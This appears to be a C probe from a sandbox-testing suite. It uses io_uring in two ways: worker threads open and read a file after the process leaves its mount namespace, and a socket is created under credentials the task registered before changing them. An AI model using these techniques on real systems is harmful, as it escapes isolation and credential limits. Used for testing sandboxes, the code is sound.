/*
 * uring [sqpoll] PATH: leave the mount namespace, then let a worker of io_uring open PATH and read it.
 * uring socket FAMILY TYPE PROTOCOL: make a socket by io_uring with credentials that were the task's own a moment ago.
 */
#include "attack.h"
#include <linux/io_uring.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>

static struct io_uring_params parameters;
static int ring;
static struct io_uring_sqe *entries;
static unsigned char *submissions, *completions;

static unsigned *word(unsigned char *base, unsigned offset) { return (unsigned *)(void *)(base + offset); }

static void *map(size_t length, off_t offset)
{
	void *at = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset);
	if (at == MAP_FAILED) refused("mmap of the ring");
	return at;
}

/* Carries out one request and returns its result. */
static int carry_out(struct io_uring_sqe request)
{
	unsigned tail = *word(submissions, parameters.sq_off.tail), mask = *word(submissions, parameters.sq_off.ring_mask);
	entries[tail & mask] = request;
	word(submissions, parameters.sq_off.array)[tail & mask] = tail & mask;
	__atomic_store_n(word(submissions, parameters.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	unsigned flags = IORING_ENTER_GETEVENTS | (parameters.flags & IORING_SETUP_SQPOLL ? IORING_ENTER_SQ_WAKEUP : 0);
	must("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, flags, NULL, 0));
	unsigned head = *word(completions, parameters.cq_off.head);
	struct io_uring_cqe *done = (void *)(completions + parameters.cq_off.cqes);
	int result = done[head & *word(completions, parameters.cq_off.ring_mask)].res;
	__atomic_store_n(word(completions, parameters.cq_off.head), head + 1, __ATOMIC_RELEASE);
	if (result < 0) errno = -result;
	return result;
}

static void start(void)
{
	ring = (int)must("io_uring_setup", syscall(SYS_io_uring_setup, 4, &parameters));
	submissions = map(parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	completions = map(parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
	entries = map(parameters.sq_entries * sizeof *entries, IORING_OFF_SQES);
}

static int make_socket(char **a)
{
	start();
	int personality = (int)must("IORING_REGISTER_PERSONALITY", syscall(SYS_io_uring_register, ring, IORING_REGISTER_PERSONALITY, NULL, 0));
	/* Any change makes new credentials, so that the registered ones are not the task's any more. */
	must("prctl", prctl(PR_SET_KEEPCAPS, 1));
	must("socket by io_uring", carry_out((struct io_uring_sqe){
		.opcode = IORING_OP_SOCKET, .fd = atoi(a[0]), .off = (unsigned)atoi(a[1]), .len = (unsigned)atoi(a[2]), .personality = (unsigned short)personality }));
	puts("made");
	return 0;
}

int main(int count, char **arguments)
{
	char bytes[256];
	int polled = count > 2 && !strcmp(arguments[1], "sqpoll");
	if (count < 2) return 254;
	if (count > 4 && !strcmp(arguments[1], "socket")) return make_socket(arguments + 2);
	if (polled) parameters.flags = IORING_SETUP_SQPOLL;
	must("unshare", unshare(CLONE_NEWNS));
	start();
	int file = (int)must("openat by a worker", carry_out((struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT, .flags = IOSQE_ASYNC, .fd = AT_FDCWD, .addr = (uintptr_t)arguments[count - 1], .open_flags = O_RDONLY }));
	int length = (int)must("read by a worker", carry_out((struct io_uring_sqe){
		.opcode = IORING_OP_READ, .flags = IOSQE_ASYNC, .fd = file, .addr = (uintptr_t)bytes, .len = sizeof bytes }));
	return write(1, bytes, (size_t)length) < 0;
}
